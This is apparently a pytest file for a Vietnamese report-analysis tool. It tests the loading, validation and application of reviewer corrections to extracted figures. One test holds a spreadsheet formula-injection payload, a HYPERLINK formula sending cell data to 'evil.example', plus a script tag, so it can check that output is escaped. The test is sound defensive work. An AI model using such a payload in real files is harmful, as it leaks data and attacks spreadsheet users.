"""Analyst corrections (issue 12): a reviewer's corrections.csv read, checked and applied to the seeds' facts."""
from __future__ import annotations

import math
import shutil
from pathlib import Path

import pandas as pd
import pytest

from wuanalysis.cli import main
from wuanalysis.corpus import read_reports, write_table
from wuanalysis.corrections import apply_corrections, load_corrections, parse_figure_number
from wuanalysis.errors import ConfigError

ROOT = Path(__file__).resolve().parent.parent
BAC_KAN = "000_8ca3ed94d4963485.txt"        # Bắc Kạn, 2024: "hơn 1.000 tỷ đồng", "ít nhất 2.500 hộ"
BINH_PHUOC_2023 = "001_55075b7f74037a93.txt"  # "437 hoạt động" twice, in two sentences
HEADER = "fact_id,doc,quote,action,value,qualifier,indicator,target,note,reviewer\n"


@pytest.fixture(scope="module")
def facts() -> pd.DataFrame:
    return read_reports([ROOT / "seeds"], workers=1).facts


def fact_id(facts: pd.DataFrame, doc: str, quote: str) -> str:
    return facts.loc[(facts["doc"] == doc) & (facts["quote"] == quote), "fact_id"].item()


def write(tmp_path: Path, rows: str, name: str = "corrections.csv", header: str = HEADER,
          encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_text(header + rows, encoding=encoding)
    return path


def test_a_set_by_id_changes_only_the_fields_it_gives(facts, tmp_path):
    fid = fact_id(facts, BAC_KAN, "hơn 1.000 tỷ đồng")
    path = write(tmp_path, f"{fid},,,set,\"1.200 tỷ\",exact,,,Sổ sách NHCSXH 31/8/2024,Lan\n")
    before = facts.copy()
    corrected, applied, problems = apply_corrections(facts, load_corrections(path))
    pd.testing.assert_frame_equal(facts, before)  # the input is not changed
    row = corrected.set_index("fact_id").loc[fid]
    assert row["value"] == 1.2e12 and row["qualifier"] == "exact"
    assert row["corrected"] and row["correction_note"] == "Sổ sách NHCSXH 31/8/2024"
    others = [c for c in facts.columns if c not in ("value", "qualifier")]
    old = before.set_index("fact_id").loc[fid]
    assert all(row[c] == old[c] or (pd.isna(row[c]) and pd.isna(old[c])) for c in others if c != "fact_id")
    assert corrected["corrected"].sum() == 1 and len(corrected) == len(facts)
    assert applied[["fact_id", "matched_by", "changed"]].values.tolist() == [[fid, "fact_id", "value;qualifier"]]
    assert applied["before"].item() == "value=1000000000000; qualifier=more_than"
    assert problems.empty


def test_a_set_by_doc_and_quote_moves_a_target_figure_with_its_target(facts, tmp_path):
    path = write(tmp_path, f",{BAC_KAN},ít nhất 2.500 hộ,set,2.600,,,,Nghị quyết đã điều chỉnh,\n")
    corrected, applied, problems = apply_corrections(facts, load_corrections(path))
    fid = fact_id(facts, BAC_KAN, "ít nhất 2.500 hộ")
    row = corrected.set_index("fact_id").loc[fid]
    # a target figure's target is its own value: it follows; the hedge "ít nhất" stays as the report said it
    assert (row["value"], row["target"], row["qualifier"], row["is_target"]) == (2600, 2600, "at_least", True)
    assert applied["matched_by"].item() == "doc+quote" and problems.empty


def test_a_drop_removes_the_figure_and_lists_it(facts, tmp_path):
    fid = fact_id(facts, BAC_KAN, "01 sản phẩm")
    path = write(tmp_path, f"{fid},,,drop,,,,,Không phải một chỉ số,\n")
    corrected, applied, problems = apply_corrections(facts, load_corrections(path))
    assert fid not in set(corrected["fact_id"]) and len(corrected) == len(facts) - 1
    assert applied[["fact_id", "action", "quote"]].values.tolist() == [[fid, "drop", "01 sản phẩm"]]
    assert problems.empty


def test_a_correction_whose_figure_is_gone_is_reported_with_its_line(facts, tmp_path):
    path = write(tmp_path, f"{BAC_KAN}#999,,,drop,,,,,Cũ,\n,{BAC_KAN},hơn 9.999 tỷ đồng,drop,,,,,Cũ,\n"
                           f",gone.txt,21 sản phẩm,drop,,,,,Cũ,\n")
    corrected, applied, problems = apply_corrections(facts, load_corrections(path))
    assert len(corrected) == len(facts) and applied.empty
    assert problems.columns.tolist() == ["doc", "path", "reason", "detail"]
    assert problems["reason"].tolist() == ["correction_stale"] * 3
    assert problems["doc"].unique().tolist() == ["corrections.csv"] and problems["path"].iloc[0] == str(path)
    details = problems["detail"].tolist()
    assert details[0].startswith(f"line 2 ({BAC_KAN}#999): no figure has this id")
    assert details[1].startswith("line 3") and "'hơn 9.999 tỷ đồng'" in details[1]
    assert "'gone.txt' is not among the reports read" in details[2]


def test_an_ambiguous_quote_names_the_figures_and_more_of_the_sentence_settles_it(facts, tmp_path):
    path = write(tmp_path, f",{BINH_PHUOC_2023},437 hoạt động,drop,,,,,Trùng,\n")
    _corrected, applied, problems = apply_corrections(facts, load_corrections(path))
    assert applied.empty and problems["reason"].tolist() == ["correction_ambiguous"]
    assert f"{BINH_PHUOC_2023}#2" in problems["detail"].item() and f"{BINH_PHUOC_2023}#9" in problems["detail"].item()
    path = write(tmp_path, f",{BINH_PHUOC_2023},tổ chức được 437 hoạt động với hơn 32 ngàn,drop,,,,,Trùng,\n")
    corrected, applied, problems = apply_corrections(facts, load_corrections(path))
    assert applied["fact_id"].tolist() == [f"{BINH_PHUOC_2023}#9"] and problems.empty
    assert f"{BINH_PHUOC_2023}#2" in set(corrected["fact_id"])


def test_an_id_that_now_holds_another_figure_is_found_again_by_its_quote(facts, tmp_path):
    right = fact_id(facts, BAC_KAN, "hơn 1.000 tỷ đồng")
    wrong = fact_id(facts, BAC_KAN, "21 sản phẩm")
    path = write(tmp_path, f"{wrong},,hơn 1.000 tỷ đồng,set,,exact,,,Đã rà soát,\n")
    corrected, applied, problems = apply_corrections(facts, load_corrections(path))
    assert applied["fact_id"].tolist() == [right]
    assert corrected.set_index("fact_id").loc[right, "qualifier"] == "exact"
    assert corrected.set_index("fact_id").loc[wrong, "qualifier"] == "exact"  # as extracted: "21 sản phẩm"
    assert problems["reason"].tolist() == ["correction_moved"] and f"write {right}" in problems["detail"].item()


def test_a_correction_that_changes_nothing_or_mixes_kinds_is_reported(facts, tmp_path):
    money = fact_id(facts, BAC_KAN, "hơn 1.000 tỷ đồng")
    count = fact_id(facts, BAC_KAN, "ít nhất 2.500 hộ")
    path = write(tmp_path, f"{money},,,set,,hơn,,,Đúng rồi,\n{count},,,set,,,women_fund_outstanding_vnd,,Sai,\n"
                           f",{BAC_KAN},hơn 1.000 tỷ đồng,set,\"1.100\",,,,Quên chữ tỷ,\n")
    corrected, applied, problems = apply_corrections(facts, load_corrections(path))
    assert applied.empty and not corrected["corrected"].any()
    assert problems["reason"].tolist() == ["correction_no_change", "correction_invalid", "correction_invalid"]
    assert "already says what the correction says" in problems["detail"].iloc[0]
    assert "counts vnd" in problems["detail"].iloc[1]
    assert "write the scale word, e.g. 1.100 tỷ" in problems["detail"].iloc[2]


def test_a_figure_corrected_twice_is_a_conflict(facts, tmp_path):
    fid = fact_id(facts, BAC_KAN, "hơn 1.000 tỷ đồng")
    path = write(tmp_path, f"{fid},,,set,,exact,,,a,\n,{BAC_KAN},hơn 1.000 tỷ đồng,drop,,,,,b,\n")
    corrected, applied, problems = apply_corrections(facts, load_corrections(path))
    assert applied["line"].tolist() == [2] and fid in set(corrected["fact_id"])
    assert problems["reason"].tolist() == ["correction_conflict"] and "on line 2" in problems["detail"].item()


@pytest.mark.parametrize("text, value", [("1.293", 1293), ("4,2", 4.2), ("1.293 tỷ", 1.293e12),
                                          ("600 triệu đồng", 6e8), ("83%", 83), ("2,5 nghìn tỷ", 2.5e12)])
def test_numbers_are_read_the_vietnamese_way(text, value):
    assert math.isclose(parse_figure_number(text), value)


@pytest.mark.parametrize("rows, where, words", [
    (f"{BAC_KAN}#14,,,set,\"1,2,3\",,,,x,\n", "line 2, column 5 (value)", "'1,2,3' is malformed"),
    (f"{BAC_KAN}#14,,,set,,,women_fund_outstanding,,x,\n", "line 2, column 7 (indicator)",
     "did you mean 'women_fund_outstanding_vnd'?"),
    (f"{BAC_KAN}#14,,,fix,,,,,x,\n", "line 2, column 4 (action)", "'fix' is neither set nor drop"),
    (f"{BAC_KAN}#14,,,set,,,,,,\n", "line 2, column 9 (note)", "note is empty"),
    (f"{BAC_KAN}#14,,,set,,,,,x,\n", "line 2, column 4 (action)", "set changes nothing"),
    (f"{BAC_KAN}#14,,,drop,5,,,,x,\n", "line 2, column 5 (value)", "drop removes the figure"),
    (",,hơn 1.000 tỷ đồng,drop,,,,,x,\n", "line 2, column 1 (fact_id)", "fact_id is empty and so is doc"),
    (f"{BAC_KAN}#14,,,set,,hơi hơi,,,x,\n", "line 2, column 6 (qualifier)", "not one the facts table uses"),
    (f"{BAC_KAN}#14,,,drop,,,,,x,\n\n{BAC_KAN}#14,,,drop,,,,,y,\n", "line 4, column 1 (fact_id)",
     "the same figure as line 2"),
])
def test_a_bad_row_names_the_file_line_column_and_fix(tmp_path, rows, where, words):
    path = write(tmp_path, rows)
    with pytest.raises(ConfigError) as err:
        load_corrections(path)
    message = str(err.value)
    assert message.startswith(f"{path}, {where}:") and words in message and "\n" not in message


def test_excel_files_with_a_bom_and_semicolons_are_read(tmp_path, facts):
    fid = fact_id(facts, BAC_KAN, "hơn 1.000 tỷ đồng")
    path = write(tmp_path, f"{fid};set;1.200 tỷ;gần;Theo sổ;Lan\r\n", header="\ufefffact_id;action;value;"
                 "qualifier;note;reviewer\r\n")
    corrections = load_corrections(path)
    assert corrections[["fact_id", "value", "qualifier", "reviewer"]].values.tolist() == [[fid, 1.2e12, "nearly",
                                                                                             "Lan"]]
    corrected, _applied, _problems = apply_corrections(facts, corrections)
    assert corrected.set_index("fact_id").loc[fid, "qualifier"] == "nearly"


def test_a_note_is_data_a_spreadsheet_never_runs(tmp_path, facts):
    fid = fact_id(facts, BAC_KAN, "hơn 1.000 tỷ đồng")
    note = '=HYPERLINK("http://evil.example/?"&A1,"Xem") <script>alert(1)</script>'
    quoted = '"' + note.replace('"', '""') + '"'
    path = write(tmp_path, f"{fid},,,set,,exact,,,{quoted},\n")
    corrected, applied, _problems = apply_corrections(facts, load_corrections(path))
    assert applied["note"].item() == note  # kept as written: the evidence shows what the reviewer wrote
    write_table(corrected, tmp_path / "facts.csv", formula_safe=True)
    written = pd.read_csv(tmp_path / "facts.csv").set_index("fact_id").loc[fid, "correction_note"]
    assert written == "'" + note


def test_the_command_line_names_a_corrections_file_it_does_not_apply(tmp_path, capsys):
    reports = tmp_path / "reports"
    reports.mkdir()
    shutil.copy(ROOT / "seeds" / BAC_KAN, reports)
    write(reports, f"{BAC_KAN}#14,,,drop,,,,,x,\n")
    main(["build", str(reports), "--out", str(tmp_path / "out"), "--no-briefings"])
    assert f"{reports / 'corrections.csv'} is not applied; pass --corrections" in capsys.readouterr().err
